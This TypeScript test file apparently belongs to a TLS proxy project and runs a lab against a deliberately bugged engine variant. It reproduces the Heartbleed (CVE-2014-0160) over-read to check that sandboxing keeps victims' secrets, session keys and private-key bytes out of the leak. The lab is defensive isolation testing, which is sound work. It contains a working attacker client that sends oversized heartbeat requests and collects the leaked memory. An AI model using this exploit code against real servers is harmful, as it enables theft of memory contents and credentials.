// The Heartbleed lab (issue 5, part 5): what a Heartbleed-class bug in tlsbox's engine can reach,
// in the REAL proxy.
//
// The engine is the TEST-ONLY `lab-heartbleed` variant (wasm/tls/lab.ts, `node build.mjs --lab`):
// it answers RFC 6520 heartbeat requests echoing payload_length bytes without checking them
// against the record — the over-read of CVE-2014-0160. The lab starts the lab program
// (OUT/tlsbox-lab.mjs: the real supervisor, ONE worker — so victims and attacker share a worker
// process, the strongest case — and the real key server) with TLSBOX_LAB_ENGINE=lab-heartbleed,
// an RSA certificate and key file made in a temporary directory, and a real TCP echo backend.
// Two victims (Node's TLS client) connect, send known secrets, read them back and stay connected;
// Node's `keylog` event hands the lab their session secrets. Then an attacker (a small TLS 1.3
// client, test/lab/tls13-client.ts, with a fresh X25519 key: it knows its own traffic keys) sends
// its own plaintext (echoed), then heartbeats with payload_length 16384 and a 1-byte payload, and
// collects what comes back.
//
// What leaks is the attacker's own sandbox: its own plaintext, its buffers, its engine state.
// What must not: the victims' secrets and session keys (in other sandboxes — other WebAssembly
// memories in the same worker process) and private-key bytes (they live only in the key server).
//
// Extend it: plant your own bug in wasm/tls/lab.ts (a new LAB_… switch and a hook in conn.ts),
// add a variant to LAB_VARIANTS in build.mjs, and point a copy of this lab at it.
import { createPrivateKey, randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import { connect as tlsConnect, type TLSSocket } from "node:tls";
import { LAB_PROGRAM } from "../isolation/lab";
import { cleanup, echoBackend, freePort, makeCert, rmDir, startWithConfig, tempDir, within, type Backend, type Tlsbox } from "../proxy/harness";
import { SUITES, Tls13Client, digest, expandLabel, trafficKeys } from "./tls13-client";

/** A named byte string to look for in the leak. */
export interface Needle {
  name: string;
  bytes: Buffer;
}

export interface LabResult {
  /** Every byte the heartbeat responses carried beyond the attacker's 1-byte payloads. */
  leaked: Buffer;
  heartbeats: number;
  /** Secrets the victims sent (and still hold in their sandboxes while the attack runs). */
  victimSecrets: string[];
  victimEchoesOk: boolean;
  /** The victims' negotiated suites (Node's choice; one is pinned to ChaCha20 for variety). */
  victimSuites: string[];
  /** The victims' session secrets (Node's keylog) and the record keys/IVs derived from them. */
  victimSessionKeys: Needle[];
  /** What the attacker itself sent before the heartbeats (expected in the leak: its own memory). */
  attackerPlaintext: string;
  /** The attacker's own session secrets and keys (its own sandbox: may appear; informational). */
  attackerSessionKeys: Needle[];
  /** The private key's secret values (RSA d, p, q, dp, dq, qi) from the key FILE: none may appear. */
  keySecrets: Needle[];
  /** The processes that ran, from the program's log lines. */
  processes: { supervisor: number; workers: number[]; keyserver: number };
  /** The program's connection log lines (two victims, one attacker). */
  connectionLines: string[];
  /** Every connection was served by the one worker that loaded the lab engine. */
  sameWorker: boolean;
  ms: number;
}

/** The secret values of a private key file (JWK d, p, q, dp, dq, qi). */
function keyFileSecrets(name: string, pemFile: string): Needle[] {
  const jwk = createPrivateKey(readFileSync(pemFile)).export({ format: "jwk" }) as Record<string, string>;
  return ["d", "p", "q", "dp", "dq", "qi"].filter((f) => typeof jwk[f] === "string")
    .map((f) => ({ name: `${name}.${f}`, bytes: Buffer.from(jwk[f], "base64url") }));
}

const KEYLOG_LABELS = ["CLIENT_HANDSHAKE_TRAFFIC_SECRET", "SERVER_HANDSHAKE_TRAFFIC_SECRET", "CLIENT_TRAFFIC_SECRET_0", "SERVER_TRAFFIC_SECRET_0", "EXPORTER_SECRET"];

/**
 * The session secrets of a TLS 1.3 connection from its keylog lines, plus the record keys and IVs
 * derived from them. Self-check: the exporter secret, run through RFC 8446 §7.5 with this file's
 * HKDF, must give what OpenSSL's exportKeyingMaterial gave (`ekm`) — the keylog was read right and
 * the derivation matches the suite's hash.
 */
function sessionKeys(who: string, keylog: string[], suiteName: string, ekm: Buffer): Needle[] {
  const suite = SUITES[suiteName];
  if (suite === undefined) throw new Error(`${who}: unexpected suite ${suiteName}`);
  const out: Needle[] = [];
  for (const line of keylog) {
    const [label, , secretHex] = line.trim().split(" ");
    if (!KEYLOG_LABELS.includes(label) || secretHex === undefined) continue;
    const secret = Buffer.from(secretHex, "hex");
    out.push({ name: `${who} ${label}`, bytes: secret });
    if (label === "EXPORTER_SECRET") {
      const h = suite.hash;
      const derived = expandLabel(h, secret, EKM_LABEL, digest(h), secret.length);
      if (!expandLabel(h, derived, "exporter", digest(h), ekm.length).equals(ekm)) throw new Error(`${who}: the keylog's exporter secret does not reproduce the exported keying material`);
    } else {
      const keys = trafficKeys(suite, secret);
      out.push({ name: `${who} ${label} key`, bytes: keys.key }, { name: `${who} ${label} iv`, bytes: keys.iv });
    }
  }
  for (const label of KEYLOG_LABELS) if (!out.some((n) => n.name === `${who} ${label}`)) throw new Error(`${who}: no ${label} in the keylog`);
  return out;
}

const EKM_LABEL = "EXPERIMENTAL tlsbox heartbleed lab";

interface Victim {
  socket: TLSSocket;
  echoed: Promise<boolean>;
  keylog: string[];
  suite: string;
  /** 32 bytes of exported keying material (RFC 8446 §7.5, empty context), to check the keylog against. */
  ekm: Buffer;
}

/** A victim: connects, sends its secret, reads the echo, and stays connected until released. */
function victim(port: number, ca: string, secret: string, ciphers?: string): Promise<Victim> {
  return new Promise((resolve, reject) => {
    const keylog: string[] = [];
    const socket = tlsConnect({ host: "127.0.0.1", port, servername: "lab.test", ca, minVersion: "TLSv1.3", ...(ciphers !== undefined ? { ciphers } : {}) }, () => {
      const chunks: Buffer[] = [];
      const echoed = new Promise<boolean>((done) => {
        socket.on("data", (d: Buffer) => {
          chunks.push(d);
          if (Buffer.concat(chunks).toString("latin1").includes(secret)) done(true);
        });
        socket.on("close", () => done(Buffer.concat(chunks).toString("latin1").includes(secret)));
      });
      socket.write(secret);
      resolve({ socket, echoed, keylog, suite: socket.getCipher().standardName, ekm: socket.exportKeyingMaterial(32, EKM_LABEL, Buffer.alloc(0)) });
    });
    socket.on("keylog", (line: Buffer) => keylog.push(line.toString("latin1")));
    socket.on("error", reject);
  });
}

/** The attacker: a real TLS 1.3 handshake, its own plaintext (echoed), then the heartbeats. */
async function attacker(port: number, ownPlaintext: string, heartbeats: number): Promise<{ leaked: Buffer; keys: Needle[] }> {
  const client = await Tls13Client.connect(port, "127.0.0.1", "lab.test");
  try {
    const s = client.secrets;
    const keys: Needle[] = [
      { name: "attacker CLIENT_HANDSHAKE_TRAFFIC_SECRET", bytes: s.clientHandshake },
      { name: "attacker SERVER_HANDSHAKE_TRAFFIC_SECRET", bytes: s.serverHandshake },
      { name: "attacker CLIENT_TRAFFIC_SECRET_0", bytes: s.clientApplication },
      { name: "attacker SERVER_TRAFFIC_SECRET_0", bytes: s.serverApplication },
      { name: "attacker client key", bytes: s.clientKeys.key },
      { name: "attacker server key", bytes: s.serverKeys.key },
    ];
    // Its own plaintext first (echoed back), so the sandbox has something of the attacker's to leak.
    client.send(23, Buffer.from(ownPlaintext));
    const echo = await client.readApplicationData(ownPlaintext.length);
    if (echo.toString("latin1") !== ownPlaintext) throw new Error("the attacker's plaintext did not come back intact");
    const leaked: Buffer[] = [];
    // One heartbeat at a time (each answer fills most of the engine's send buffer).
    for (let i = 0; i < heartbeats; i++) {
      // HeartbeatMessage: heartbeat_request, payload_length 16384, a 1-byte payload, 16 bytes padding.
      client.send(24, Buffer.concat([Buffer.from([1, 0x40, 0x00, 0x41]), Buffer.alloc(16)]));
      for (;;) {
        const r = await client.receive();
        if (r === null) throw new Error("server closed during the heartbeats");
        if (r[0] === 21) throw new Error(`server alert ${r[1][1]} during the heartbeats`);
        if (r[0] !== 24) continue;
        // heartbeat_response: type 2, payload_length, payload (1 byte sent; the rest is the over-read), padding.
        const len = (r[1][1] << 8) | r[1][2];
        leaked.push(r[1].subarray(3 + 1, 3 + len));
        break;
      }
    }
    return { leaked: Buffer.concat(leaked), keys };
  } finally {
    client.close();
  }
}

/**
 * SIGTERM and wait for the exit (the program drains and stops its worker and key server); SIGKILL
 * the process group after 8 s. Like Tlsbox.stop(), without leaving its 8 s timer behind to keep
 * this process alive after the lab is done.
 */
async function stop(box: Tlsbox): Promise<void> {
  if (box.child.exitCode !== null || box.child.signalCode !== null) return;
  box.signal("SIGTERM");
  try {
    await within(8000, "the program's exit", box.exited);
  } catch {
    try { process.kill(-box.pid, "SIGKILL"); } catch { box.signal("SIGKILL"); }
    await box.exited;
  }
}

/** The pid in `tlsbox[PID] role` of a log line. */
const pidOf = (line: string): number => Number(line.match(/tlsbox\[(\d+)\]/)?.[1] ?? NaN);

export async function runHeartbleedLab(options: { heartbeats?: number } = {}): Promise<LabResult> {
  const t0 = Date.now();
  const heartbeats = options.heartbeats ?? 4;
  const dir = tempDir();
  let backend: Backend | null = null;
  let box: Tlsbox | null = null;
  const victims: Victim[] = [];
  try {
    const cert = makeCert(dir, "lab", ["lab.test"], "rsa");
    backend = await echoBackend();
    const port = await freePort();
    try {
      box = await startWithConfig(dir, `# generated by test/lab/heartbleed.ts
listen 127.0.0.1:${port}
workers 1
cert ${cert.cert}
key ${cert.key}
backend 127.0.0.1
backend-port ${backend.port}
`, { program: LAB_PROGRAM, env: { TLSBOX_LAB_ENGINE: "lab-heartbleed" } });
    } catch (e) {
      cleanup(); // the program started but never said it listens: kill what the harness started
      throw e;
    }
    const running = box;
    const labLine = await running.waitFor(/LAB ENGINE/);
    if (!/engine=lab-heartbleed/.test(labLine)) throw new Error(`not the heartbleed engine: ${labLine}`);
    const worker = pidOf(labLine);
    const keyserver = Number((await running.waitFor(/keyserver started pid=/)).match(/pid=(\d+)/)![1]);

    const tag = randomBytes(6).toString("hex");
    const victimSecrets = [`victim-1 password=hunter2-${tag}`, `victim-2 password=correct-horse-${tag}`];
    victims.push(await within(10000, "victim 1", victim(port, cert.pem, victimSecrets[0], "TLS_AES_256_GCM_SHA384")));
    victims.push(await within(10000, "victim 2", victim(port, cert.pem, victimSecrets[1], "TLS_CHACHA20_POLY1305_SHA256")));
    const victimEchoesOk = (await within(10000, "the victims' echoes", Promise.all(victims.map((v) => v.echoed)))).every(Boolean);
    const victimSessionKeys = victims.flatMap((v, i) => sessionKeys(`victim-${i + 1}`, v.keylog, v.suite, v.ekm));

    // The victims are still connected (their sandboxes alive, holding their secrets) while the attack runs.
    const attackerPlaintext = `attacker's own plaintext ${tag} `.repeat(64);
    const attack = await within(20000, "the attack", attacker(port, attackerPlaintext, heartbeats));
    for (const v of victims) v.socket.end();

    // Three connections: their log lines come as they close.
    await within(10000, "three connection log lines", (async () => {
      while (running.connectionLines().length < 3) await new Promise((r) => setTimeout(r, 50));
    })());
    const connectionLines = running.connectionLines();
    const workers = [...new Set(running.lines.filter((l) => /^tlsbox\[\d+\] worker /.test(l)).map(pidOf))];
    return {
      leaked: attack.leaked, heartbeats, victimSecrets, victimEchoesOk,
      victimSuites: victims.map((v) => v.suite), victimSessionKeys,
      attackerPlaintext, attackerSessionKeys: attack.keys,
      keySecrets: keyFileSecrets("lab.key.pem (RSA-2048)", cert.key),
      processes: { supervisor: running.pid, workers, keyserver },
      connectionLines,
      sameWorker: workers.length === 1 && connectionLines.every((l) => pidOf(l) === worker),
      ms: Date.now() - t0,
    };
  } finally {
    for (const v of victims) v.socket.destroy();
    if (box !== null) await stop(box);
    await backend?.close();
    rmDir(dir);
  }
}

/** Whether any `window`-byte piece of `needle` (all of it, if shorter) occurs in `hay`. */
function occurs(hay: Buffer, needle: Buffer, window = 16): boolean {
  if (needle.length <= window) return hay.includes(needle);
  for (let i = 0; i + window <= needle.length; i++) if (hay.includes(needle.subarray(i, i + window))) return true;
  return false;
}

export interface Findings {
  victimSecretsFound: string[];
  /** Any 16-byte window of a private key's secret value. */
  keyValuesFound: string[];
  /** Any 16-byte window of a victim's secret or record key; a 12-byte IV whole. */
  victimSessionKeysFound: string[];
  /** The same for the attacker's own keys (its own sandbox: allowed, informational). */
  attackerSessionKeysFound: string[];
  ownPlaintextFound: boolean;
}

/** What of the lab's needles occurs in the leak. */
export function findings(r: LabResult): Findings {
  const text = r.leaked.toString("latin1");
  return {
    victimSecretsFound: r.victimSecrets.filter((s) => text.includes(s) || text.includes(s.split("=")[1])),
    keyValuesFound: r.keySecrets.filter((k) => occurs(r.leaked, k.bytes)).map((k) => k.name),
    victimSessionKeysFound: r.victimSessionKeys.filter((k) => occurs(r.leaked, k.bytes)).map((k) => k.name),
    attackerSessionKeysFound: r.attackerSessionKeys.filter((k) => occurs(r.leaked, k.bytes)).map((k) => k.name),
    ownPlaintextFound: text.includes(r.attackerPlaintext.slice(0, 40)),
  };
}

/** A hex/ASCII dump of `bytes` (at most `max` bytes), 16 per line. */
export function hexdump(bytes: Buffer, max = 256, offset = 0): string {
  const lines: string[] = [];
  for (let i = offset; i < Math.min(bytes.length, offset + max); i += 16) {
    const row = bytes.subarray(i, i + 16);
    const hex = [...row].map((b) => b.toString(16).padStart(2, "0")).join(" ");
    const ascii = [...row].map((b) => (b >= 32 && b < 127 ? String.fromCharCode(b) : ".")).join("");
    lines.push(`${i.toString(16).padStart(6, "0")}  ${hex.padEnd(47)}  ${ascii}`);
  }
  return lines.join("\n");
}
